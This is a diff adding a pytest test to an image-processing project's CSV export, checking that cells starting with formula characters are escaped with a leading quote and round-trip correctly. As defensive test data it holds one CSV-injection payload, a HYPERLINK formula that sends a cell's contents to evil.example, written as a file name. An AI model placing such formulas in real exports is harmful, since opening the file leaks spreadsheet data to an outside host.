@@ -55,3 +55,18 @@ def test_csv_has_the_header_then_one_line_per_row_with_plain_cells():
     assert refused[0] == "b.png" and refused[-1] == "invalid_image: 'b.png': damaged"
     assert set(refused[1:9]) == {""}
     assert text.endswith("damaged\n") and "\r" not in text
+
+
+def test_a_cell_that_would_be_a_formula_in_a_spreadsheet_is_kept_text():
+    from lesion_api.rows import from_spreadsheet_safe, spreadsheet_safe
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x").jpg'
+    row = Row.failed(hostile, "m", "m-1", "invalid_image", "+SUM(1)", hostile)
+    (cells,) = list(csv.reader(io.StringIO(to_csv([row]))))[1:]
+    assert cells[0] == "'" + hostile
+    assert cells[-1].startswith("invalid_image: ")  # already text: untouched
+    for start in "=+-@\t\r":
+        assert spreadsheet_safe(f"{start}x") == f"'{start}x"
+        assert from_spreadsheet_safe(spreadsheet_safe(f"{start}x")) == f"{start}x"
+    assert spreadsheet_safe("ISIC_1.jpg") == "ISIC_1.jpg" == from_spreadsheet_safe("ISIC_1.jpg")
+    assert from_spreadsheet_safe("'quoted") == "'quoted", "only what it made safe"
